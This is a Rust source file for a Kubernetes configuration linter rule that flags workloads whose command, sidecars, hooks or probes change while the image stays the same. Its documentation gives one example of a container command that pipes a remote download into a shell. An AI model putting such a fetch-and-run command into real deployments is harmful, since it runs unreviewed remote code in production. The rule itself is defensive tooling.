//! # changed-program
//!
//! ## What
//!
//! A change makes a workload of a protected environment run something else although its image stays
//! the same. The rule needs a base revision (`--base`). It reports:
//!
//! - another `command` of a container, or other `args` of a shell;
//! - a container that is added to a workload that existed before: a sidecar or an init container;
//! - another command of a probe or lifecycle hook.
//!
//! It reports nothing that the previous environment ran before the change, and nothing about a
//! container whose image changes as well.
//!
//! ## Why
//!
//! The digest is the one that staging has proved, but it is not what starts. Image policies and
//! scanners see nothing.
//!
//! ## Example
//!
//! ```yaml
//! command: [sh, -c, "curl -s example.com/run | sh; exec /app"] # before: [/app]
//! ```
//!
//! ## Fix
//!
//! Run it in staging first, and promote it. Otherwise let a reviewer approve it. A finding about a
//! change is gone once the change is merged.

use crate::compare::Words;
use crate::finding::{Cause, Severity};
use crate::kubernetes::workload::{self, Container, Workload};
use crate::repo::Overlay;
use crate::rules::{Category, Context, Draft, Metadata, Rule, Sink};
use crate::yaml::Node;

/// See the documentation above.
pub(super) struct ChangedProgram;

static METADATA: Metadata = Metadata {
    id: "changed-program",
    category: Category::Guardrails,
    level: "warning; needs a base revision",
    severity: Severity::Warning,
    summary: "a change of what production runs with the same image: a command, a sidecar, a hook",
    options: &[],
    behavior: Metadata::USUAL,
    source: include_str!("changed_program.rs"),
};

/// The places of a command in a container, besides `command` and `args`.
const HOOKS: [&[&str]; 5] = [
    &["lifecycle", "postStart", "exec", "command"],
    &["lifecycle", "preStop", "exec", "command"],
    &["livenessProbe", "exec", "command"],
    &["readinessProbe", "exec", "command"],
    &["startupProbe", "exec", "command"],
];

/// Programs that run their arguments.
const SHELLS: [&str; 9] = [
    "sh", "bash", "ash", "dash", "busybox", "python", "python3", "node", "perl",
];

/// A part of a workload that decides what runs.
struct Program<'r> {
    /// The part in messages: `a container`, `a command`.
    what: &'static str,
    /// The value by which two revisions are compared; `None` for a container as such.
    text: Option<String>,
    node: &'r Node,
    pointer: String,
}

impl Rule for ChangedProgram {
    fn metadata(&self) -> &'static Metadata {
        &METADATA
    }
    fn check_overlay(&self, context: &Context, overlay: &Overlay, sink: &mut Sink) {
        let Some(before) = context.altered_at_base(overlay) else {
            return;
        };
        if !before.rendered.complete || !overlay.rendered.complete {
            return;
        }
        for resource in &overlay.rendered.resources {
            let Some(old) = before.same_resource(resource) else {
                continue;
            };
            for (now, old) in workload::of(resource).iter().zip(workload::of(old)) {
                for container in now.containers.iter().filter(|one| !one.name.is_empty()) {
                    changed(context, (before, overlay), (&old, now), container, sink);
                }
            }
        }
    }
}

/// Reports the changed programs of one container.
fn changed(
    context: &Context,
    (before, overlay): (&Overlay, &Overlay),
    (old, now): (&Workload, &Workload),
    container: &Container,
    sink: &mut Sink,
) {
    let same = partner(old, container);
    let image = |one: &Container| one.image().and_then(Node::text).map(str::to_string);
    if same.is_some_and(|same| image(same) != image(container)) {
        return;
    }
    // a container that changed its list is no new one
    let is_moved = old.containers.iter().any(|one| one.name == container.name);
    if same.is_none() && is_moved {
        return;
    }
    let known = same.map_or_else(Vec::new, programs);
    for program in programs(container) {
        let is_known = known.iter().any(|one| is_same(one, &program));
        if is_known || ran_before(context, before, (overlay, now), container, &program) {
            continue;
        }
        let resource = now.resource;
        let object = format!("{} `{}`", resource.kind(), resource.name());
        let message = match program.text {
            None => format!("container `{}` is added to {object}", container.name),
            Some(_) => format!(
                "container `{}` of {object} runs {} {} with the same image",
                container.name,
                if known.iter().any(|one| one.what == program.what) {
                    "another"
                } else {
                    "a new"
                },
                program.what
            ),
        };
        let cause = Cause::new("changed-program")
            .with(container.name)
            .with(program.what);
        let draft = Draft::new(Severity::Warning, program.node.origin, cause, message)
            .help("run it in staging first, or let a reviewer approve it")
            .on(resource, program.pointer);
        sink.report(context, Some(overlay), draft);
        if same.is_none() {
            return;
        }
    }
}

fn partner<'w, 'r>(workload: &'w Workload<'r>, container: &Container) -> Option<&'w Container<'r>> {
    let mut containers = workload.containers.iter();
    containers.find(|one| one.name == container.name && one.role == container.role)
}

/// True if an earlier environment ran a program at the base.
fn ran_before(
    context: &Context,
    before: &Overlay,
    (overlay, now): (&Overlay, &Workload),
    container: &Container,
    program: &Program,
) -> bool {
    let Some(base) = context.base else {
        return false;
    };
    let environments = &context.repo.environments;
    let own = Words::of(overlay, environments);
    let name = own.strip(&now.resource.original.name);
    base.before(before).any(|earlier| {
        let words = Words::of(earlier, environments);
        let resources = earlier.rendered.resources.iter();
        let mut same = resources.filter(|other| {
            other.kind() == now.resource.kind() && words.strip(&other.original.name) == name
        });
        same.any(|other| {
            workload::of(other).iter().any(|workload| {
                let there = partner(workload, container);
                there.is_some_and(|there| {
                    let mut programs = programs(there).into_iter();
                    programs.any(|one| {
                        let stripped = |text: &Option<String>, words: &Words| {
                            text.as_ref().map(|text| words.strip(text))
                        };
                        one.what == program.what
                            && stripped(&one.text, &words) == stripped(&program.text, &own)
                    })
                })
            })
        })
    })
}

fn is_same(one: &Program, other: &Program) -> bool {
    one.what == other.what && one.text == other.text
}

/// The container itself, its command, and those of its hooks and probes.
fn programs<'r>(container: &Container<'r>) -> Vec<Program<'r>> {
    let node = container.node;
    let mut found = vec![Program {
        what: "container",
        text: None,
        node,
        pointer: container.pointer.clone(),
    }];
    let mut add = |what: &'static str, path: &[&str]| {
        if let Some(value) = node.at(path) {
            found.push(Program {
                what,
                text: Some(joined(value)),
                node: value,
                pointer: format!("{}/{}", container.pointer, path.join("/")),
            });
        }
    };
    add("command", &["command"]);
    if runs_arguments(node) {
        add("script", &["args"]);
    }
    for path in HOOKS {
        let what = match path {
            ["lifecycle", ..] => "lifecycle hook",
            _ => "probe command",
        };
        add(what, path);
    }
    found
}

/// True if the command of a container is a shell, so that its arguments are the program. The image
/// may start a shell too; `sh -c` as arguments says so.
fn runs_arguments(container: &Node) -> bool {
    let first = |key: &str| {
        let items = container.get(key).map_or(&[][..], Node::items);
        items.first().and_then(Node::text).unwrap_or_default()
    };
    let program = match first("command") {
        "" => first("args"),
        command => command,
    };
    let name = program.rsplit('/').next().unwrap_or(program);
    SHELLS.contains(&name)
}

/// The items of a command as one text.
fn joined(node: &Node) -> String {
    let items = node.items().iter();
    let items: Vec<&str> = items.map(|item| item.text().unwrap_or_default()).collect();
    items.join("\0")
}
